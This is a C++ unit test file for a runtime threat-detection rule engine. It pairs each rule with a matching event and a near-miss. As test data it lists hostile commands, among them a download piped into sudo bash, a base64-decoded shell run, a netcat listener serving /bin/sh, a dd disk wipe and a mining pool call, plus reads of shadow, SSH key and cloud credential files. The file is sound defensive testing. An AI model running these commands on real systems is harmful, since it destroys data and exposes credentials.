// SPDX-License-Identifier: Apache-2.0
//
// Each rule that we ship: an event that it must match, and one that differs in what the rule is
// about and must not. A rule without a row here fails the last test.
#include <doctest/doctest.h>

#include <algorithm>
#include <set>

#include "analyzer/rules/rule_engine.h"
#include "tests/unit/rules/test_fields.h"

using namespace tiercel::rules;

namespace {

using Event = std::map<std::string, std::vector<std::string>>;

Event with(Event base, const Event& more) {
    for (const auto& [field, values] : more)
        base[field] = values;
    return base;
}

const Event kRead = {{"evt.type", {"openat"}},
                     {"evt.is_open_read", {"true"}},
                     {"fd.num", {"3"}},
                     {"container.id", {"host"}},
                     {"proc.name", {"evil"}}};
const Event kWrite = {{"evt.type", {"openat"}},
                      {"evt.is_open_write", {"true"}},
                      {"fd.num", {"3"}},
                      {"container.id", {"host"}},
                      {"proc.name", {"evil"}}};
const Event kExec = {{"evt.type", {"execve"}},
                     {"evt.failed", {"false"}},
                     {"container.id", {"host"}},
                     {"proc.name", {"evil"}},
                     {"proc.pname", {"bash"}}};
const Event kConnect = {{"evt.type", {"connect"}},
                        {"evt.rawres", {"0"}},
                        {"fd.typechar", {"4"}},
                        {"container.id", {"c0ffee"}},
                        {"proc.name", {"curl"}}};

Event file(const Event& base, const std::string& path) {
    return with(base, {{"fd.name", {path}}, {"fd.filename", {path.substr(path.rfind('/') + 1)}}});
}
Event in_container(const Event& base) {
    return with(base, {{"container.id", {"c0ffee"}}});
}
Event exec(const std::string& name, const std::string& command,
           const std::string& parent = "bash") {
    return with(kExec, {{"proc.name", {name}},
                        {"proc.cmdline", {command}},
                        {"proc.args", {command.substr(std::min(command.size(), name.size() + 1))}},
                        {"proc.pname", {parent}}});
}
Event exec_file(const std::string& path) {
    return with(kExec, {{"proc.exepath", {path}}});
}

struct Row {
    const char* rule;
    Event matches;
    Event near_miss;
};

// NOLINTNEXTLINE(readability-function-size): a table of two events for each rule
std::vector<Row> rows() {
    const Event dup = {{"evt.type", {"dup2"}},
                       {"evt.rawres", {"0"}},
                       {"fd.typechar", {"4"}},
                       {"proc.name", {"bash"}},
                       {"container.id", {"host"}}};
    const Event module = {{"evt.type", {"finit_module"}},
                          {"evt.failed", {"false"}},
                          {"container.id", {"host"}},
                          {"proc.name", {"evil"}}};
    const Event setns = {{"evt.type", {"setns"}},
                         {"evt.failed", {"false"}},
                         {"container.id", {"c0ffee"}},
                         {"proc.name", {"nsenter"}}};
    const Event packet = {{"evt.type", {"socket"}},
                          {"evt.rawres", {"3"}},
                          {"container.id", {"c0ffee"}},
                          {"evt.arg.domain", {"AF_PACKET"}},
                          {"proc.name", {"python3"}}};
    const Event trace = {{"evt.type", {"ptrace"}},
                         {"evt.rawres", {"0"}},
                         {"evt.arg.request", {"PTRACE_ATTACH"}},
                         {"proc.name", {"evil"}}};
    const Event unlink = {{"evt.type", {"unlinkat"}},
                          {"evt.failed", {"false"}},
                          {"proc.name", {"rm"}},
                          {"fs.path.name", {"/root/.bash_history"}}};
    const Event log =
        with(file(kWrite, "/var/log/auth.log"), {{"evt.arg.flags", {"O_TRUNC|O_CREAT|O_WRONLY"}}});
    const Event socket =
        with(kConnect, {{"fd.typechar", {"u"}}, {"fd.name", {"/run/docker.sock"}}});
    const Event shm = exec_file("/dev/shm/x");
    const Event token = in_container(file(with(kRead, {{"proc.name", {"cat"}}}),
                                          "/var/run/secrets/kubernetes.io/serviceaccount/token"));
    const Event chmod = {{"evt.type", {"fchmodat2"}},
                         {"evt.failed", {"false"}},
                         {"evt.arg.mode", {"S_ISUID|S_IRUSR|S_IXUSR"}},
                         {"proc.name", {"evil"}}};
    const Event script = with(kExec, {{"proc.exe", {"/bin/bash"}}, {"proc.args", {"/dev/fd/3"}}});
    const Event loader = with(exec_file("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
                              {{"proc.args", {"/tmp/x"}}});
    const Event uring = {
        {"evt.type", {"io_uring_setup"}}, {"evt.failed", {"false"}}, {"proc.name", {"evil"}}};
    const Event disguise = {{"evt.type", {"prctl"}},
                            {"evt.failed", {"false"}},
                            {"evt.arg.option", {"PR_SET_NAME"}},
                            {"evt.arg.arg2_str", {"sshd"}},
                            {"proc.exepath", {"/tmp/evil"}}};
    const Event mount = in_container(
        {{"evt.type", {"fsmount"}}, {"evt.failed", {"false"}}, {"proc.name", {"evil"}}});
    return {
        {"Set-user-ID bit set by an unexpected program", chmod,
         with(chmod, {{"proc.name", {"install"}}})},
        {"Script run from a descriptor", script, with(script, {{"proc.args", {"/dev/fd/63"}}})},
        {"Program started by the dynamic loader", loader,
         with(loader, {{"proc.args", {"--list /bin/ls"}}})},
        {"Kernel's work queue used by an unexpected program", uring,
         with(uring, {{"proc.name", {"nginx"}}})},
        {"Program disguised as another", disguise,
         with(disguise, {{"proc.exepath", {"/usr/sbin/sshd"}}})},
        {"File system mounted from a container", mount, with(mount, {{"proc.name", {"crun"}}})},
        {"Password file read by an unexpected program", file(kRead, "/etc/shadow"),
         with(file(kRead, "/etc/shadow"),
              {{"proc.name", {"dpkg-helper"}}, {"proc.aname", {"sh", "dpkg"}}})},
        {"Sensitive file opened by another name",
         with(kRead, {{"fd.path_differs", {"true"}}, {"fd.realpath", {"/root/.ssh/id_rsa"}}}),
         with(kRead, {{"fd.path_differs", {"true"}}, {"fd.realpath", {"/root/.ssh/id_rsa.pub"}}})},
        {"Private SSH key read", file(kRead, "/home/a/.ssh/id_rsa"),
         file(kRead, "/home/a/.ssh/id_rsa.pub")},
        {"Cloud credentials read", file(kRead, "/root/.aws/credentials"),
         file(kRead, "/root/.aws/config")},
        {"Memory of another process opened", file(kRead, "/proc/17/mem"),
         file(kRead, "/proc/self/mem")},
        {"Service account token read by a shell or a download tool", token,
         with(token, {{"proc.name", {"app"}}})},
        {"Account file written by an unexpected program", file(kWrite, "/etc/passwd"),
         with(file(kWrite, "/etc/passwd"), {{"proc.name", {"useradd"}}})},
        {"Keys of who may log in changed", file(kWrite, "/root/.ssh/authorized_keys"),
         file(kRead, "/root/.ssh/authorized_keys")},
        {"Scheduled job written", file(kWrite, "/etc/cron.d/x"), file(kWrite, "/etc/cron.deny")},
        {"Service unit written", file(kWrite, "/etc/systemd/system/x.service"),
         with(file(kWrite, "/etc/systemd/system/x.service"), {{"proc.name", {"systemd"}}})},
        {"Preload list or login module changed", file(kWrite, "/usr/lib/security/pam_x.so"),
         file(kWrite, "/usr/lib/security/pam_x.conf")},
        {"System program overwritten", file(kWrite, "/usr/bin/ls"),
         with(file(kWrite, "/usr/bin/ls"), {{"proc.aname", {"dpkg"}}})},
        {"Program run from memory", with(kExec, {{"proc.is_exe_from_memfd", {"true"}}}),
         with(kExec, {{"proc.is_exe_from_memfd", {"true"}}, {"proc.name", {"runc"}}})},
        {"Program run from a directory for temporary files", shm, exec_file("/dev/shmx/x")},
        {"Hidden program run", exec_file("/tmp/.x/y"), exec_file("/tmp/x/.y")},
        {"Shell started by a network server", exec("sh", "sh -c id", "nginx"),
         exec("sh", "sh -c id", "make")},
        {"Download piped into a shell", exec("bash", "bash -c curl http://x/y | sudo bash"),
         exec("bash", "bash -c curl http://x/y | tee bash.txt")},
        {"Encoded script run", exec("bash", "bash -c echo aWQ= | base64 -d | sh"),
         exec("bash", "bash -c echo aWQ= > x")},
        {"New program run in a container",
         in_container(with(kExec, {{"proc.is_exe_upper_layer", {"true"}}})),
         with(kExec, {{"proc.is_exe_upper_layer", {"true"}}})},
        {"Mining program run", exec("x", "x -o stratum+tcp://pool:3333"),
         exec("x", "x -o tcp://pool:3333")},
        {"Standard stream put on a network connection", dup, with(dup, {{"evt.rawres", {"3"}}})},
        {"Netcat told to run a program", exec("nc", "nc -lvpe 4444 /bin/sh"),
         exec("nc", "nc -lvp 4444")},
        {"Cloud metadata asked for by hand", with(kConnect, {{"fd.sip", {"169.254.169.254"}}}),
         with(kConnect, {{"fd.sip", {"169.254.169.25"}}})},
        {"Raw packets sent from a container", packet,
         with(packet, {{"evt.arg.domain", {"AF_INET"}}})},
        {"Kernel module loaded from a container", in_container(module),
         with(module, {{"proc.name", {"modprobe"}}})},
        {"Kernel module loaded by an unexpected program", module,
         with(module, {{"proc.name", {"(udev-worker)"}}})},
        {"Namespaces of another process entered from a container", setns,
         with(setns, {{"container.id", {"host"}}})},
        {"Way out of a container written",
         in_container(file(kWrite, "/proc/sys/kernel/core_pattern")),
         file(kWrite, "/proc/sys/kernel/core_pattern")},
        {"Container runtime's socket used from a container", socket,
         with(socket, {{"container.id", {"host"}}})},
        {"Another process traced", trace, with(trace, {{"proc.name", {"gdb"}}})},
        {"Log emptied", log, with(log, {{"evt.arg.flags", {"O_APPEND|O_WRONLY"}}})},
        {"Shell history removed", unlink, with(unlink, {{"evt.failed", {"true"}}})},
        {"Disk wiped", exec("dd", "dd if=/dev/zero of=/dev/sda"),
         exec("dd", "dd if=/dev/sda of=/dev/null")},
    };
}

struct Fixture {
    TestFields fields;
    Loaded loaded;
    Fixture() {
        LoadOptions options;
        options.fields = &fields;
        loaded = load_files({std::string(TIERCEL_SOURCE_DIR) + "/policy/rules"}, options);
    }
    bool matches(const std::string& rule, const Event& event) {
        tiercel::filter::Matcher matcher(loaded.rules->program);
        TestEvent test_event(fields, event);
        for (const auto id : matcher.match(test_event.kind(), test_event, true)) {
            if (loaded.rules->rules[id].name == rule)
                return true;
        }
        return false;
    }
};

} // namespace

TEST_CASE_FIXTURE(Fixture, "the default rules load without a word") {
    std::string said;
    for (const Diagnostic& diagnostic : loaded.diagnostics.all())
        said += format(loaded.sources, diagnostic);
    CHECK(said == "");
    REQUIRE(loaded.rules);
    for (const Rule& rule : loaded.rules->rules) {
        CHECK(rule.enabled);
        CHECK_FALSE(rule.tags.empty());
    }
}

TEST_CASE_FIXTURE(Fixture, "each default rule matches what it is about, and not what is near it") {
    REQUIRE(loaded.rules);
    for (const Row& row : rows()) {
        CAPTURE(row.rule);
        CHECK(matches(row.rule, row.matches));
        CHECK_FALSE(matches(row.rule, row.near_miss));
    }
}

TEST_CASE_FIXTURE(Fixture, "no default rule goes untested") {
    REQUIRE(loaded.rules);
    std::set<std::string> tested;
    for (const Row& row : rows())
        tested.insert(row.rule);
    for (const Rule& rule : loaded.rules->rules)
        CHECK_MESSAGE(tested.contains(rule.name), rule.name);
    CHECK(tested.size() == loaded.rules->rules.size());
}

TEST_CASE_FIXTURE(Fixture, "everyday events match nothing") {
    REQUIRE(loaded.rules);
    const std::vector<Event> everyday = {
        file(kRead, "/etc/passwd"),
        file(kRead, "/usr/lib/libc.so.6"),
        file(kWrite, "/tmp/x"),
        file(kWrite, "/home/a/.bash_history"),
        exec("gcc", "gcc -c x.c", "make"),
        exec("bash", "bash configure", "make"),
        exec("curl", "curl -O http://x/y"),
        exec_file("/usr/bin/ls"),
        with(kConnect, {{"fd.sip", {"93.184.216.34"}}}),
    };
    tiercel::filter::Matcher matcher(loaded.rules->program);
    for (const Event& event : everyday) {
        TestEvent test_event(fields, event);
        for (const auto id : matcher.match(test_event.kind(), test_event, true))
            CHECK_MESSAGE(false, loaded.rules->rules[id].name);
    }
}
